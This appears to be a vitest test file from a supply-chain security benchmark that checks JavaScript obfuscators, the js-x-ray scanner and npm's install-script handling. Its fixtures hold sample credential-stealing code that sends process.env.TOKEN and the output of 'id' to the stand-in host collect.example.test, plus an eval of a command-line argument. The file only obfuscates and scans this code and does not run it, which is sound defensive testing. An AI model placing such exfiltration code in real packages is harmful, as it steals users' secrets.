// The peers themselves, from the npm registry: every obfuscator disguises a source without losing what it exports, js-x-ray
// reads what comes out, and npm says of a project what it says. Nothing that is disguised is run.
import { beforeAll, describe, expect, test } from 'vitest'
import { peersInstalled } from '../../bench/peers/install.ts'
import { jsXRaySays } from '../../bench/peers/js-x-ray.ts'
import { npmSays } from '../../bench/peers/npm-commands.ts'
import { obfuscate, obfuscators } from '../../bench/peers/obfuscators.ts'
import { npmPlace } from '../support/npm-place.ts'
import { startRegistry } from '../support/registry.ts'
import { scenarioOf } from '../support/scenario.ts'
import { scriptsTree } from '../support/scripts-tree.ts'

beforeAll(peersInstalled)

const program = `#!/usr/bin/env node
const { execSync } = require('child_process')
const https = require('https')
if (!process.env.TOKEN) return
https.request({ host: 'collect.example.test' }).end(process.env.TOKEN + execSync('id'))
exports.done = true
`
const modul = `import { request } from 'node:https'
export const [first, { second = 2 }] = [1, {}]
const own = import.meta.url
export { own as other }
export { tmpdir } from 'node:os'
export default function () { request({ host: 'collect.example.test' }).end(process.env.TOKEN) }
await import('node:net')
`

describe.each(obfuscators)('%s', (name) => {
  test('disguises a program', async () => {
    const text = await obfuscate(name, program, 0)
    expect(text.startsWith('#!/usr/bin/env node\n')).toBe(true)
    expect(text).not.toContain("host: 'collect.example.test'")
    expect(await obfuscate(name, program, 0)).toBe(text)
  })
  test('disguises a module', async () => {
    const text = await obfuscate(name, modul, 2)
    expect(text).not.toContain("host: 'collect.example.test'")
    expect(text).toMatch(/^import|^export|^const/)
    for (const exported of ['first', 'second', 'other', 'tmpdir', 'default']) expect(text).toContain(exported)
  })
  test('refuses what is no JavaScript', async () => {
    await expect(obfuscate(name, 'const = ;', 0)).rejects.toThrow(name)
  })
})

test('js-x-ray says what is new', async () => {
  const before = new Map([['index.js', 'exports.one = 1\n']])
  const after = new Map([...before, ['more.js', 'eval(process.argv[2])\n'], ['bad.js', 'const = ;'], ['a.d.ts', '?']])
  const verdict = await jsXRaySays(before, after)
  expect(verdict.added).toEqual([{ kind: 'unsafe-stmt', severity: 'Warning', before: 0, after: 1 }])
  expect(verdict.unread).toEqual({ unparsed: 1, time: 0, died: 0 })
  expect((await jsXRaySays(after, after)).flagsAny).toBe(false)
})

test('npm names scripts, runs none, and minds the age only where it resolves', async () => {
  const scenario = scenarioOf(scriptsTree)
  await using registry = await startRegistry(scenario.registry)
  await using place = await npmPlace(scenario, registry, '')
  const ask = (now: string) =>
    npmSays({ projectDir: place.project, env: place.env, now: Date.parse(now), minAgeHours: 72, cli: '' })
  const old = await ask('2026-06-15T12:00:00Z')
  expect(old).toMatchObject({ auditFindings: 'unavailable', youngRefused: false, youngRefusedWhenLocked: false })
  expect(old.scriptsNamed).toEqual(['@scope/tool@1.0.0', 'good-native@1.0.0', 'nosy@1.0.0', 'nosy@2.0.0'])
  const young = await ask('2024-01-02T10:00:00Z')
  expect([young.youngRefused, young.youngRefusedWhenLocked]).toEqual([true, false])
  expect(await place.planted()).toEqual([])
})
